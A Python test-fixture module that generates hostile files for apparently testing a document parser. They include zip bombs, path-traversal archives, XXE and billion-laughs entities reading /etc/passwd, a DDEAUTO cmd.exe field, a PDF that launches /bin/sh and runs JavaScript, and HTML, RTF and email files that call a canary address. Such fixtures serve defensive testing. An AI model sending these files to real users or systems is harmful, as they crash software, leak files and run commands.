"""Files made to harm whoever opens them. A maker gives the bytes of one; `canary` is the address of somebody who must
never be asked for anything."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from email.message import EmailMessage

from docx import Document
from openpyxl import Workbook

_TEXT = "KẾ HOẠCH\nVề việc thử\n1. Văn phòng chủ trì báo cáo trước ngày 15/12/2025.\n"
_TYPES = "[Content_Types].xml"
_BODY = "word/document.xml"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def packed(parts: Mapping[str, bytes | str], *, packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP archive of these parts."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", packing) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return stream.getvalue()


def word_file(text: str = _TEXT) -> bytes:
    """A Word file of these lines."""
    document, stream = Document(), io.BytesIO()
    for line in text.splitlines():
        document.add_paragraph(line)
    document.save(stream)
    return stream.getvalue()


def sheet_file() -> bytes:
    """A harmless workbook."""
    book, stream = Workbook(), io.BytesIO()
    book.active.append(["Kế hoạch", "15/12/2025"])
    book.save(stream)
    return stream.getvalue()


def altered(package: bytes, **parts: bytes | str) -> bytes:
    """An office file with parts replaced or added; `__` in a name stands for `/`, `_DOT_` for a full stop."""
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        all_parts: dict[str, bytes | str] = {name: archive.read(name) for name in archive.namelist()}
    return packed(all_parts | {name.replace("__", "/").replace("_DOT_", "."): part for name, part in parts.items()})


def _entities(package: bytes, part: str, canary: str, *, before: str = "") -> bytes:
    laughs = (
        '<!ENTITY a "'
        + "ha" * 50
        + '">'
        + "".join(f'<!ENTITY {name} "{f"&{inner};" * 40}">' for name, inner in zip("bcdefgh", "abcdefg", strict=True))
    )
    body = (
        f'<?xml version="1.0"?>{before}<!DOCTYPE x [{laughs}<!ENTITY f SYSTEM "file:///etc/passwd">'
        f'<!ENTITY n SYSTEM "{canary}">]><w:document {_W}><w:body><w:p><w:r><w:t>&h;&f;&n;</w:t></w:r></w:p></w:body>'
        "</w:document>"
    )
    return altered(package, **{part: body})


def _word_that_calls_out(canary: str) -> bytes:
    relations = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(
            f'<Relationship Id="x{number}" Type="{_RELATIONS}/{kind}" Target="{canary}/{kind}" TargetMode="External"/>'
            for number, kind in enumerate(
                ("attachedTemplate", "image", "oleObject", "frame", "subDocument", "hyperlink")
            )
        )
        + "</Relationships>"
    )
    body = (
        f'<?xml version="1.0"?><w:document {_W} xmlns:r="{_RELATIONS}"><w:body><w:p><w:r><w:t>Kế hoạch thử</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText> INCLUDEPICTURE "{canary}/field" \\d </w:instrText></w:r>'
        f'<w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k {canary}" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:subDoc r:id="x4"/></w:body></w:document>'
    )
    return altered(word_file(), **{"word___rels__document_DOT_xml_DOT_rels": relations, "word__document_DOT_xml": body})


def _deep_word() -> bytes:
    deep = "<w:tbl><w:tr><w:tc>" * 3000 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 3000
    body = f'<?xml version="1.0"?><w:document {_W}><w:body>{deep}<w:p/></w:body></w:document>'
    return altered(word_file(), **{"word__document_DOT_xml": body})


def _huge_sheet() -> bytes:
    sheet = (
        '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1"><v>1</v></c></row>'
        '<row r="1048576"><c r="XFD1048576"><v>2</v></c></row></sheetData>'
        '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>'
    )
    return altered(sheet_file(), **{"xl__worksheets__sheet1_DOT_xml": sheet})


def pdf(*objects: bytes, root: bytes = b"1 0 R") -> bytes:
    """A PDF file of these objects, numbered from 1."""
    content, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    start = len(content)
    return (
        content
        + b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(objects) + 1, table)
        + b"trailer\n<</Size %d/Root %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, start)
    )


def _page(
    more: bytes = b"", *, box: bytes = b"0 0 595 842", content: bytes = b"BT /F1 12 Tf 72 700 Td (Ke hoach) Tj ET"
) -> bytes:
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R" + more + b">>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[" + box + b"]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
        b"<</Length %d>>stream\n%s\nendstream" % (len(content), content),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    )


def plain_pdf() -> bytes:
    """A harmless PDF file of one page."""
    return _page()


def _pdf_that_turns_letters_round() -> bytes:
    """Its font says that A is the mark that turns the order round, B an invisible letter, and C nothing visible."""
    told = b"3 beginbfchar\n<41> <202E>\n<42> <200B>\n<43> <DB40DC41>\nendbfchar"
    told = b"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00> <FF> endcodespacerange " + told
    content = b"BT /F1 12 Tf 72 700 Td (Ke hoach AB1202/21/51C va bao cao) Tj ET"
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
        b"<</Length %d>>stream\n%s\nendstream" % (len(content), content),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>",
        b"<</Length %d>>stream\n%s endcmap end\nendstream" % (len(told) + 12, told),
    )


def _pdf_bomb() -> bytes:
    once = zlib.compress(bytes(300 << 20), 9)
    twice = zlib.compress(once, 9)
    stream = b"<</Length %d/Filter[/FlateDecode/FlateDecode]>>stream\n%s\nendstream" % (len(twice), twice)
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>",
        stream,
    )


def _pdf_in_a_circle() -> bytes:
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 9/Kids[2 0 R 2 0 R]/Parent 2 0 R>>")


def _pdf_of_a_billion_pages() -> bytes:
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 999999999/Kids[3 0 R]>>", b"<</Type/Page>>")


def _pdf_of_forms_within_forms() -> bytes:
    head = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>/Length 12>>"
    form = head + b"stream\n/X Do /X Do \nendstream"
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>",
        b"<</Length 6>>stream\n/X Do \nendstream",
        form,
    )


def _pdf_that_acts(canary: str) -> bytes:
    target = canary.encode()
    return _page(
        b"/OpenAction<</S/URI/URI(" + target + b")>>/AA<</O<</S/Launch/F(/bin/sh)>>>>"
        b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.launchURL('" + target + b"'))>>]>>>>"
        b"/AcroForm<</XFA(<x href='" + target + b"'/>)>>"
    )


def png(width: int, height: int, rows: bytes = b"") -> bytes:
    """A PNG picture that says it is so large, whatever it holds."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def _tiff_in_a_circle() -> bytes:
    entries = [
        (256, 4, 1, 10),
        (257, 4, 1, 10),
        (258, 3, 1, 8),
        (259, 3, 1, 1),
        (262, 3, 1, 1),
        (273, 4, 1, 8),
        (279, 4, 1, 100),
    ]
    folder = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\0" + struct.pack("<I", 8) + folder + struct.pack("<I", 8) + bytes(200)


def _mail_within_mail(depth: int) -> bytes:
    head = "".join(
        f'Content-Type: multipart/mixed; boundary="b{level}"\r\n\r\n--b{level}\r\n' for level in range(depth)
    )
    return (
        f"From: a@example.vn\r\nTo: b@example.vn\r\nSubject: Kế hoạch\r\nMIME-Version: 1.0\r\n{head}\r\nhết"
    ).encode()


def _mail_that_calls_out(canary: str) -> bytes:
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "a@example.vn", "b@example.vn", "Kế hoạch"
    mail.set_content("Kế hoạch thử")
    mail.add_alternative(_page_that_calls_out(canary).decode(), subtype="html")
    mail.add_attachment(
        f"URL={canary}/shortcut".encode(), maintype="application", subtype="octet-stream", filename="../../x.url"
    )
    return mail.as_bytes()


def _page_that_calls_out(canary: str) -> bytes:
    return (
        f'<!doctype html><html><head><base href="{canary}/"><link rel=stylesheet href="a.css"><meta http-equiv=refresh '
        f'content="0;url={canary}/refresh"><style>@import url({canary}/import); '
        f"body{{background:url({canary}/bg)}}</style>"
        f'<script src="{canary}/script"></script></head><body onload="fetch(\'{canary}\')"><p>Kế hoạch thử</p>'
        f'<img src="{canary}/img"><iframe src="{canary}/frame"></iframe><object data="{canary}/object"></object>'
        f'<svg><image href="{canary}/svg"/></svg><xml:x xmlns:x="{canary}"/></body></html>'
    ).encode()


def _rtf_that_calls_out(canary: str) -> bytes:
    return (
        r"{\rtf1\ansi{\*\template " + canary + "/template}"
        r"{\field{\*\fldinst INCLUDEPICTURE \\d " + f'"{canary}/picture"' + r"}{\fldrslt x}}"
        r"{\object\objautlink\objupdate{\*\objdata 0105000002000000}}\par Ke hoach thu\par}"
    ).encode()


def _crowd(count: int) -> bytes:
    return packed({f"{number}.txt": "x" for number in range(count)}, packing=zipfile.ZIP_STORED)


def _zip_with_ways_out() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name in (
            "../../../tmp/ra-ngoai.txt",
            "/etc/ra-ngoai.txt",
            "..\\..\\ra-ngoai.txt",
            "C:\\ra-ngoai.txt",
            "a/../../b.txt",
        ):
            archive.writestr(name, _TEXT)
        link = zipfile.ZipInfo("lien-ket.txt")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return stream.getvalue()


def _zip_in_zip(depth: int) -> bytes:
    content = packed({"a.txt": bytes(1 << 20)})
    for level in range(depth):
        content = packed({f"{level}-{copy}.zip": content for copy in range(8)})
    return content


HOSTILE: Mapping[str, Callable[[str], bytes]] = {
    "bomb.zip": lambda _: packed({"a.txt": bytes(200 << 20)}),
    "bombs-within.zip": lambda _: _zip_in_zip(6),
    "crowd.zip": lambda _: _crowd(20_000),
    "ways-out.zip": lambda _: _zip_with_ways_out(),
    "bomb.docx": lambda _: altered(word_file(), **{"word__document_DOT_xml": b"<w:t>" + b" " * (200 << 20)}),
    "entities.docx": lambda canary: _entities(word_file(), "word__document_DOT_xml", canary),
    "late-entities.docx": lambda canary: _entities(
        word_file(),
        "word__document_DOT_xml",
        canary,
        before=f"<!--{'-' * 9}{' ' * 70_000}-->".replace("--" + "-" * 9, "--"),
    ),
    "entities.xlsx": lambda canary: _entities(sheet_file(), "xl__worksheets__sheet1_DOT_xml", canary),
    "relations-entities.docx": lambda canary: _entities(word_file(), "word___rels__document_DOT_xml_DOT_rels", canary),
    "calls-out.docx": _word_that_calls_out,
    "macros.docx": lambda _: altered(word_file(), **{"word__vbaProject_DOT_bin": b"\xd0\xcf\x11\xe0" + bytes(2000)}),
    "deep.docx": lambda _: _deep_word(),
    "no-body.docx": lambda _: altered(word_file(), **{"word__document_DOT_xml": b""}),
    "huge.xlsx": lambda _: _huge_sheet(),
    "bomb.pdf": lambda _: _pdf_bomb(),
    "circle.pdf": lambda _: _pdf_in_a_circle(),
    "billion-pages.pdf": lambda _: _pdf_of_a_billion_pages(),
    "forms-within-forms.pdf": lambda _: _pdf_of_forms_within_forms(),
    "acts.pdf": _pdf_that_acts,
    "turned.pdf": lambda _: _pdf_that_turns_letters_round(),
    "turned.docx": lambda _: word_file("Kế hoạch \u202e5202/21/51\u202c và \u2066ẩn\u2069 \U000e0041\u200b hết"),
    "giant-page.pdf": lambda _: _page(box=b"0 0 9999999 9999999"),
    "nowhere-page.pdf": lambda _: _page(box=b"0 0 0 -1"),
    "deep-content.pdf": lambda _: _page(content=b"q " * 300_000 + b"[" * 100_000),
    "cut.pdf": lambda _: _page()[:-200],
    "bomb.png": lambda _: png(100_000, 100_000),
    "lies.png": lambda _: png(3000, 3000, bytes(10)),
    "strip.png": lambda _: png(1, 60_000_000),
    "circle.tiff": lambda _: _tiff_in_a_circle(),
    "cut.jpg": lambda _: (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03"
    ),
    "calls-out.html": _page_that_calls_out,
    "deep.html": lambda _: ("<html><body>" + "<div>" * 200_000 + "Kế hoạch").encode(),
    "calls-out.rtf": _rtf_that_calls_out,
    "deep.rtf": lambda _: b"{\\rtf1 " + b"{" * 200_000 + b"Ke hoach" + b"}" * 200_000 + b"}",
    "calls-out.eml": _mail_that_calls_out,
    "deep.eml": lambda _: _mail_within_mail(2000),
    "headers.eml": lambda _: b"From: " + b"a" * 2_000_000 + b"\r\nSubject: =?utf-8?B?" + b"A" * 500_000 + b"?=\r\n\r\n",
    "pdf-and-zip.pdf": lambda _: _page() + packed({"a.txt": _TEXT}),
    "zip-and-pdf.zip": lambda _: packed({"a.txt": _TEXT}) + _page(),
    "page-and-script.pdf": lambda _: b"<script>%PDF-1.7</script>" + _page(),
    "picture-and-page.png": lambda canary: png(8, 8, bytes(72)) + _page_that_calls_out(canary),
    "program.pdf": lambda _: b"MZ\x90\x00" + bytes(4000),
    "one-line.txt": lambda _: ("Kế hoạch " * 150_000).encode(),
    "one-word.txt": lambda _: b"a" * 1_500_000,
    "marks.txt": lambda _: ("a" + "\u0301" * 300_000).encode(),
    "numbers.txt": lambda _: ("1." * 100_000 + "\n" + "(" * 100_000 + "\n" + "a) " * 50_000).encode(),
    "dates.txt": lambda _: ("trước ngày 15/12/2025 " * 20_000).encode(),
    "dots.txt": lambda _: (("….." * 5 + "\t|") * 20_000).encode(),
    "half.txt": lambda _: "Kế hoạch".encode("utf-16")[:-1] + b"\xff\xfe\x00\xd8" * 1000,
}
